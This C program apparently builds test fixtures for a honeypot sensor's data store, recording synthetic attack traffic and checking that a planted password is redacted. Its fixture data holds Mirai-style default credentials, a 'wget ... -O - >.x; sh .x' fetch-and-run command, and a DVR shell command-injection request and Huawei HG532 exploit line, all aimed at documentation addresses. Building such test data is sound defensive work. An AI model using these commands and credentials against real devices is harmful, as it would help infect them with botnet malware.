/* Makes a store of fixed things heard: two spans of the living sensor tokyo-1 and one of osaka-1; or, asked for
 * secrets, one span in which every way carries a password that is in no published list, or a monitored address; or, asked
 * for probes, a day of many sources and of nine, and a day of one.
 *
 * In:  the folder of the store; a database of countries, or nothing; "secrets", "probes", or nothing. Out: exit status 1 and a message
 *      when it cannot be made. Nobody's packets: every row is written here. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "store/store.h"

enum { DAY = 18444, LIMIT = 256, TEXT_LIMIT = 8192 }; /* 2020-07-01 */

/* The rows of one span while they are put together. */
struct span {
    uint8_t bytes[TEXT_LIMIT];
    size_t used;
    struct conversation_row conversations[LIMIT];
    struct payload_row payloads[LIMIT];
    struct text_ref signatures[LIMIT]; /* of each of them */
    struct payload_event_row payload_events[LIMIT];
    struct login_row logins[LIMIT];
    struct command_row commands[LIMIT];
    struct download_row downloads[LIMIT];
    struct event_row events[LIMIT];
    struct unheard_row unheard[LIMIT];
    struct heard_rows rows;
    size_t event_count, unheard_count;
    uint32_t day, hour;
};

static int64_t at(const struct span *s, uint32_t second)
{
    return ((int64_t)s->day * S_PER_DAY + (int64_t)s->hour * S_PER_HOUR + second) * US_PER_S;
}

static struct talk from(const char *source, uint16_t port)
{
    struct ipv4 ipv4;
    struct talk talk = {.dst = ipv6_of_ipv4((struct ipv4){0xcb007105}), /* 203.0.113.5 */
                        .src_port = 40000,
                        .dst_port = port,
                        .protocol = 6};
    if (ipv4_parse(source, strlen(source), &ipv4))
        talk.src = ipv6_of_ipv4(ipv4);
    else if (!ipv6_parse(source, strlen(source), &talk.src))
        abort();
    return talk;
}

static struct text_ref keep(struct span *s, const char *text, size_t length)
{
    struct text_ref ref = {(uint32_t)s->used, (uint32_t)length};
    if (s->used + length > TEXT_LIMIT)
        abort();
    memcpy(s->bytes + s->used, text, length);
    s->used += length;
    return ref;
}
#define KEEP(s, text) keep(s, text, sizeof(text) - 1)

static void talk_to(struct span *s, uint32_t second, const char *source, uint16_t port,
                    uint64_t bytes_in, bool two_phase)
{
    s->conversations[s->rows.conversation_count++] =
        (struct conversation_row){.time_us = at(s, second),
                                  .duration_us = 1500000,
                                  .probe_gap_us = two_phase ? 2000000 : 0,
                                  .talk = from(source, port),
                                  .bytes_in = bytes_in,
                                  .bytes_out = 21,
                                  .packets_in = 4,
                                  .engine = port == 23 ? ENGINE_TELNET : ENGINE_SILENT,
                                  .end = TALK_END_CLIENT,
                                  .probe_tool = two_phase ? 1 : 0,
                                  .two_phase = two_phase};
}

static void login(struct span *s, uint32_t second, const char *source, struct text_ref user,
                  struct text_ref password, enum login_list list, bool accepted)
{
    s->logins[s->rows.login_count++] = (struct login_row){.time_us = at(s, second),
                                                          .talk = from(source, 23),
                                                          .user = user,
                                                          .password = password,
                                                          .accepted = accepted,
                                                          .list = (uint8_t)list};
}

static void command(struct span *s, uint32_t second, const char *source, struct text_ref text,
                    struct text_ref token)
{
    s->commands[s->rows.command_count++] = (struct command_row){
        .time_us = at(s, second), .talk = from(source, 23), .text = text, .token = token};
}

static void download(struct span *s, uint32_t second, const char *source, uint16_t port,
                     enum download_method method, bool host_is_source, const char *const texts[4])
{
    s->downloads[s->rows.download_count++] =
        (struct download_row){.time_us = at(s, second),
                              .talk = from(source, port),
                              .url = keep(s, texts[0], strlen(texts[0])),
                              .host = keep(s, texts[1], strlen(texts[1])),
                              .file = keep(s, texts[2], strlen(texts[2])),
                              .cpu = keep(s, texts[3], strlen(texts[3])),
                              .method = (uint8_t)method,
                              .host_is_source = host_is_source};
}

static void content(struct span *s, uint8_t id, struct text_ref bytes, bool cut,
                    const char *signatures)
{
    struct payload_row row = {.bytes = bytes, .cut = cut};
    memset(row.id, id, sizeof row.id);
    s->signatures[s->rows.payload_count] = keep(s, signatures, strlen(signatures));
    s->payloads[s->rows.payload_count++] = row;
}

static void said(struct span *s, uint32_t second, const char *source, uint16_t port, uint8_t id,
                 uint32_t packets)
{
    struct payload_event_row row = {
        .time_us = at(s, second), .talk = from(source, port), .packets = packets};
    memset(row.id, id, sizeof row.id);
    while (s->payloads[row.payload].id[0] != id)
        row.payload++;
    row.signatures = s->signatures[row.payload];
    s->payload_events[s->rows.payload_event_count++] = row;
}

static void event(struct span *s, uint32_t from_s, uint32_t until_s, enum sensor_event event,
                  uint64_t packets, const char *detail)
{
    struct event_row *row = &s->events[s->event_count++];
    *row = (struct event_row){.from_us = at(s, from_s),
                              .until_us = at(s, until_s),
                              .event = (uint8_t)event,
                              .packets = packets};
    snprintf(row->detail, sizeof row->detail, "%s", detail);
}

static void lost(struct span *s, uint32_t minute, enum unheard_what what, enum unheard_why why,
                 uint64_t records)
{
    s->unheard[s->unheard_count++] = (struct unheard_row){.from_us = at(s, minute * S_PER_MINUTE),
                                                          .what = (uint8_t)what,
                                                          .why = (uint8_t)why,
                                                          .records = records};
}

#define HTTP_REQUEST                                                                               \
    "GET /shell?cd+/tmp;wget+http://192.0.2.9/x.sh HTTP/1.1\r\nHost: \"198.51.100.1\"\r\n\r\n"
#define HUAWEI "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: 198.51.100.1\r\n\r\n"
static const char *const arm[] = {"http://192.0.2.9/bins/x.arm7", "192.0.2.9", "x.arm7", "arm7"};
static const char *const script[] = {"http://192.0.2.9/x.sh", "192.0.2.9", "x.sh", ""};
static const char *const tftp[] = {"tftp://dl.example.net/mips", "dl.example.net", "mips", "mips"};
static const char *const echo[] = {"", "", ".d", ""};

static void first_span(struct span *s)
{
    s->hour = 9;
    talk_to(s, 10, "192.0.2.9", 23, 120, true);
    talk_to(s, 20, "198.51.100.7", 23, 60, false);
    talk_to(s, 30, "198.51.100.7", 5555, 0, false);
    talk_to(s, 40, "2001:db8::9", 23, 12, true);
    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), LOGIN_LIST_MIRAI, true);
    login(s, 21, "198.51.100.7", KEEP(s, "root"), KEEP(s, "xc3511"), LOGIN_LIST_MIRAI, false);
    login(s, 22, "198.51.100.7", KEEP(s, "admin"), KEEP(s, ""), LOGIN_LIST_MIRAI, false);
    login(s, 41, "2001:db8::9", KEEP(s, "\033[31mred"), KEEP(s, "a\0b\xff,\"=1"), LOGIN_LIST_NONE,
          false);
    login(s, 42, "2001:db8::9", KEEP(s, "=cmd()"), KEEP(s, "定点"), LOGIN_LIST_NONE, false);
    command(s, 12, "192.0.2.9", KEEP(s, "/bin/busybox ECCHI"), KEEP(s, "ECCHI"));
    command(s, 13, "192.0.2.9",
            KEEP(s, "cd /tmp; wget http://192.0.2.9/bins/x.arm7 -O - >.x; sh .x"), KEEP(s, ""));
    command(s, 23, "198.51.100.7", KEEP(s, "/bin/busybox ECCHI"), KEEP(s, "ECCHI"));
    download(s, 13, "192.0.2.9", 23, DOWNLOAD_WGET, true, arm);
    download(s, 31, "198.51.100.7", 80, DOWNLOAD_WGET, false, script);
    download(s, 14, "192.0.2.9", 23, DOWNLOAD_ECHO, false, echo);
    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false, "mvpower-dvr generic-downloader");
    content(s, 0xbb, KEEP(s, "\x16\x03\x01\0\\'\xff"), true, "");
    content(s, 0xcc, KEEP(s, HUAWEI), false, "huawei-hg532 of-another-pack");
    content(s, 0xdd, KEEP(s, "GET / HTTP/1.1\r\nUser-Agent: zgrab/0.x\r\n\r\n"), false, "zgrab");
    said(s, 31, "198.51.100.7", 80, 0xaa, 1);
    said(s, 32, "2001:db8::9", 8080, 0xaa, 1);
    said(s, 33, "192.0.2.9", 443, 0xbb, 1);
    said(s, 34, "192.0.2.9", 37215, 0xcc, 12);
    said(s, 36, "198.51.100.9", 80, 0xdd, 1);
    event(s, 0, 0, EVENT_START, 0, "");
    event(s, 600, 900, EVENT_DISK_FULL, 1234, "no space left on device");
}

static void second_span(struct span *s)
{
    s->hour = 10;
    talk_to(s, 10, "192.0.2.9", 23, 80, false);
    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), LOGIN_LIST_MIRAI, true);
    download(s, 13, "192.0.2.9", 23, DOWNLOAD_TFTP, false, tftp);
    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false, "mvpower-dvr generic-downloader");
    content(s, 0xcc, KEEP(s, HUAWEI), false, "huawei-hg532 of-another-pack");
    said(s, 15, "192.0.2.9", 80, 0xaa, 1);
    said(s, 40, "198.51.100.7", 37215, 0xcc, 1);
    event(s, 100, 100, EVENT_RELOAD, 0, "addresses");
    lost(s, 0, UNHEARD_PAYLOAD, UNHEARD_SHARE, 1000);
    lost(s, 1, UNHEARD_PAYLOAD, UNHEARD_FULL, 234);
    lost(s, 1, UNHEARD_LOGIN, UNHEARD_FULL, 2);
    lost(s, 1, UNHEARD_SIGNATURE, UNHEARD_SLOW, 7);
}

static void other_sensor(struct span *s)
{
    s->hour = 12;
    talk_to(s, 10, "198.51.100.8", 23, 5, false);
    login(s, 11, "198.51.100.8", KEEP(s, "admin"), KEEP(s, "admin"), LOGIN_LIST_MIRAI, false);
    event(s, 60, 120, EVENT_DISK_FULL, 6, "no space left on device");
    lost(s, 1, UNHEARD_CONVERSATION, UNHEARD_BUSY, 40);
    lost(s, 2, UNHEARD_COMMAND, UNHEARD_UNWRITTEN, 3);
    lost(s, 2, UNHEARD_LOGIN, UNHEARD_UNWRITTEN, 1);
}

/* Unpublished, and monitored: what no answer may show. */
#define PASSWORD "Zx7-unpublished-9q"
#define ESCAPED  "%5A%78%37%2D%75%6E%70%75%62%6C%69%73%68%65%64%2D%39%71"
#define BASIC    "YWRtaW46Wng3LXVucHVibGlzaGVkLTlx" /* admin:PASSWORD */
#define SENSOR   "203.0.113.5"

static void secret_content(struct span *s, uint8_t id, uint16_t port, struct text_ref bytes,
                           bool dialogue)
{
    content(s, id, bytes, false, "");
    s->payloads[s->rows.payload_count - 1].dialogue = dialogue;
    said(s, id, "192.0.2.9", port, id, 1);
}

static void secrets(struct span *s)
{
    static const struct {
        const char *bytes;
        size_t length;
    } binary[] = {
#define BYTES(text) {text, sizeof(text) - 1}
        BYTES("0\x32\2\1\1\4\x12" PASSWORD "\xa0\x19\2"),
        BYTES("0\x1c\2\1\1\x60\x17\2\1\3\4\4cn=a\x80\x12" PASSWORD),
        BYTES("\x10\x27\0\4MQTT\4\xc2\0<\0\1c\0\2ab\0\x12" PASSWORD),
        BYTES("\4\1\0P\xcb\0q\5\0"),
        BYTES("ip \5q\0\xcb ip"),
        BYTES("\0\1\1\0\0\1\0\0\0\0\0\0\0015\003113\0010\003203\7in-addr\4arpa\0\0\x0c\0\1"),
        BYTES("\\\0\\\0002\0000\0003\0.\0000\0.\0001\0001\0003\0.\0005\0\\\0"),
#undef BYTES
    };
    static const char *const contents[] = {
        "GET /cgi-bin/x?u=admin&p=" PASSWORD " HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.0\r\nX: Basic " BASIC "\r\n\r\n",
        "GET /?h=3405803781&h=0xcb007105&h=0313.0.0161.05&h=cb007105 HTTP/1.0\r\n\r\n",
        "GET /?h=MjAzLjAuMTEzLjU= HTTP/1.0\r\n\r\n",
        "PORT 203,0,113,5,4,1\r\n",
        "ping 5.113.0.203.in-addr.arpa ::ffff:cb00:7105",
        "USER admin\r\nPASS " PASSWORD "\r\n",
        "a1 LOGIN admin " PASSWORD "\r\n",
        "GET / HTTP/1.0\r\nAuthorization: Basic " BASIC "\r\n\r\n",
        "POST /login HTTP/1.0\r\n\r\nuser=admin&password=" PASSWORD "&x=1",
        "psd=" ESCAPED "&x=1",
        "{\"user\":\"admin\",\"password\":\"" PASSWORD "\"}",
        "GET http://admin:" PASSWORD "@" SENSOR "/ HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: " SENSOR "\r\n\r\n",
        "GET /?url=http://" SENSOR "/ HTTP/1.1\r\nHost: 198.51.100.77\r\n\r\n",
        "c=;ftpget+-u+a+-p+" PASSWORD "+192.0.2.9+x+x",
        "EHLO x\r\nAUTH PLAIN " BASIC "\r\n",
    };
    static const char *const commands[] = {
        "ftpget -u admin -p " PASSWORD " 192.0.2.9 x x",
        "wget --user=admin --password=" PASSWORD " http://192.0.2.9/x",
        "curl -u admin:" PASSWORD " http://192.0.2.9/x",
        "wget http://admin:" PASSWORD "@192.0.2.9/x",
        "echo root:" PASSWORD "|chpasswd",
        "wget http://" SENSOR "/x",
        "wget http://3405803781/x; wget http://0xcb007105/x; ping 203.28933",
    };
    static const char *const with_user[] = {"http://admin:" PASSWORD "@192.0.2.9/x", "192.0.2.9",
                                            "x", ""};
    static const char *const with_value[] = {"http://192.0.2.9/x?pwd=" PASSWORD, "192.0.2.9",
                                             "x?pwd=" PASSWORD, ""};
    static const char *const of_sensor[] = {"http://" SENSOR "/x", SENSOR, "x", ""};
    s->hour = 9;
    talk_to(s, 10, "192.0.2.9", 23, 120, true);
    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, PASSWORD), LOGIN_LIST_NONE, true);
    login(s, 12, "192.0.2.9", KEEP(s, "admin"), KEEP(s, PASSWORD), LOGIN_LIST_OWN, true);
    secret_content(s, 0xee, 23, KEEP(s, "root\r\n" PASSWORD "\r\nenable\r\n"), true);
    for (size_t i = 0; i < sizeof contents / sizeof contents[0]; i++)
        secret_content(s, (uint8_t)(i + 1), 80, keep(s, contents[i], strlen(contents[i])), false);
    for (size_t i = 0; i < sizeof binary / sizeof binary[0]; i++)
        secret_content(s, (uint8_t)(i + 101), 161, keep(s, binary[i].bytes, binary[i].length),
                       false);
    for (uint32_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
        command(s, 20 + i, "192.0.2.9", keep(s, commands[i], strlen(commands[i])), KEEP(s, ""));
    download(s, 31, "192.0.2.9", 23, DOWNLOAD_WGET, true, with_user);
    download(s, 32, "192.0.2.9", 23, DOWNLOAD_WGET, true, with_value);
    download(s, 33, "192.0.2.9", 23, DOWNLOAD_WGET, false, of_sensor);
}

/* Sources from 198.51.100.`first` on, each so often: a login, and a content with a signature. */
static void probe(struct span *s, unsigned first, unsigned count, unsigned times, const char *user,
                  const char *password, uint8_t id)
{
    for (unsigned i = 0; i < count * times; i++) {
        char source[24];
        snprintf(source, sizeof source, "198.51.100.%u", first + i % count);
        login(s, 10 + i, source, keep(s, user, strlen(user)), keep(s, password, strlen(password)),
              LOGIN_LIST_MIRAI, true);
        said(s, 10 + i, source, 80, id, 1);
    }
}

/* What forty do, and what nine do more often. */
static void many_and_few(struct span *s)
{
    s->hour = 9;
    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false, "mvpower-dvr");
    content(s, 0xcc, KEEP(s, HUAWEI), false, "huawei-hg532");
    probe(s, 1, 40, 1, "root", "xc3511", 0xaa);
    probe(s, 101, 9, 10, "admin", "admin", 0xcc);
}

/* On the next day one does what forty did. */
static void one_more(struct span *s)
{
    s->day++;
    s->hour = 9;
    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false, "mvpower-dvr");
    probe(s, 201, 1, 3, "root", "xc3511", 0xaa);
}

static void point_rows(struct span *s)
{
    s->rows.day = s->day;
    s->rows.bytes = s->bytes;
    s->rows.bytes_count = s->used;
    s->rows.conversations = s->conversations;
    s->rows.payloads = s->payloads;
    s->rows.payload_events = s->payload_events;
    s->rows.logins = s->logins;
    s->rows.commands = s->commands;
    s->rows.downloads = s->downloads;
}

/* A minute of coverage, and what was heard. */
static bool write_span(const struct ingest_options *options, struct span *s, struct error *error)
{
    struct ingest *ingest = NULL;
    struct ingest_known known;
    const uint32_t minute = s->day * 1440 + s->hour * 60;
    const struct coverage_row live = {
        .from_minute = minute, .until_minute = minute + 1, .received = 10, .accesses = 10};
    const struct day_rows packets = {.day = s->day, .coverage = &live, .coverage_count = 1};
    point_rows(s);
    if (ingest_begin(options, &ingest, &known, error) != INGEST_NEW)
        return false;
    bool good = ingest_add(ingest, &packets, error) && ingest_add_heard(ingest, &s->rows, error) &&
                ingest_add_events(ingest, s->day, s->events, s->event_count, error) &&
                (s->unheard_count == 0 ||
                 ingest_add_unheard(ingest, s->day, s->unheard, s->unheard_count, error)) &&
                ingest_finish(ingest, NULL, 0, true, error);
    ingest_destroy(ingest);
    return good;
}

int main(int argc, char **argv)
{
    static struct span span;
    static const struct {
        const char *of; /* what was asked for */
        const char *sensor, *key;
        void (*fill)(struct span *s);
    } spans[] = {
        {"", "tokyo-1", "live-1", first_span},         {"", "tokyo-1", "live-2", second_span},
        {"", "osaka-1", "live-3", other_sensor},       {"secrets", "tokyo-1", "live-4", secrets},
        {"probes", "tokyo-1", "live-5", many_and_few}, {"probes", "tokyo-1", "live-6", one_more}};
    const char *asked = argc > 3 ? argv[3] : "";
    struct error error = {0};
    const char *files[] = {argc > 2 ? argv[2] : NULL};
    const struct geo_options geo_options = {.files = files, .file_count = argc > 2};
    struct geo *geo = argc > 1 ? geo_create(&geo_options, &error) : NULL;
    bool good = geo != NULL;
    for (size_t i = 0; i < sizeof spans / sizeof spans[0] && good; i++) {
        if (strcmp(spans[i].of, asked) != 0)
            continue;
        const struct ingest_options options = {.store = argv[1],
                                               .sensor = spans[i].sensor,
                                               .input_name = "live:eth0",
                                               .input_key = spans[i].key,
                                               .input_compression = "none",
                                               .program_version = "teiten test",
                                               .access_definition = "packets",
                                               .monitored = "203.0.113.0/24",
                                               .monitored_digest = "0123456789abcdef",
                                               .monitored_count = 256,
                                               .scan_timeout_s = 600,
                                               .max_silence_s = 3600,
                                               .limit_bytes = 1 << 20,
                                               .live = true,
                                               .geo = geo};
        memset(&span, 0, sizeof span);
        span.day = DAY;
        spans[i].fill(&span);
        good = write_span(&options, &span, &error);
    }
    geo_destroy(geo);
    if (!good)
        fprintf(stderr, "heard_store: %s\n", error.text);
    return good ? 0 : 1;
}
